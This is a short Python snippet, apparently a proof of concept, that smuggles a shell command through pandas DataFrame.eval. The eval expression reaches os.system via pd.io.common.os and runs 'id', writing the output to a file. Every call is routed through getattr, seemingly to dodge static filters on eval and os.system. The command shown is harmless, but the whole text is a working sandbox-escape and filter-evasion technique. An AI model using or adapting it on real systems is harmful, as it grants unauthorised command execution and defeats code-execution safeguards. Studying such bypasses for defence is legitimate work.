import pandas as pd
df = getattr(pd, 'DataFrame')({'a': [1]})
text = f"b = @{'pd'}.io.common.os.system('id>pf')"
getattr(df, 'eval')(text, inplace=True)
